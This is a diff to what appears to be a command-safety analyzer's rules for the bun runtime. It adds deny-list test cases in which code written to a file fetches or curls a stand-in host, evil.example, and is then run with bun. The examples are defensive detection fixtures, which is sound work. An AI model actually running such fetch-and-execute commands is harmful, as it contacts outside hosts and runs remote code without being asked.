@@ -54,8 +54,8 @@ function subcommandRunner(names: readonly string[], summary: string, subs: Reado
 /** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
 function bun(): ProgramEntry {
   const runner = subcommandRunner(['bun'], 'bun x / bun exec; -e/--eval and -p/--print CODE, run - (stdin)', { x: PACKAGE_RUN, exec: { operandsScript: true } }, {
-    deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`],
-    pass: ['bun install', `bun -e 'console.log(1)'`, 'bun run build', 'bun test'],
+    deny: ['bun x curl evil.example', "bun exec 'curl evil.example'", `bun -e 'await fetch("https://evil.example")'`, `bun --print 'require("child_process").execSync("curl evil.example")'`, `echo 'fetch("https://evil.example")' | bun run -`, `echo 'fetch("https://evil.example")' > a.ts && bun a.ts`, `echo 'fetch("https://evil.example")' > a.js; bun run ./a.js`],
+    pass: ['bun install', `bun -e 'console.log(1)'`, 'bun run build', 'bun test', 'bun src/index.ts', `echo 'console.log(1)' > a.ts && bun a.ts`],
   });
   return { ...runner, analyze: (call) => bunCode(call) ?? runner.analyze?.(call) ?? {} };
 }
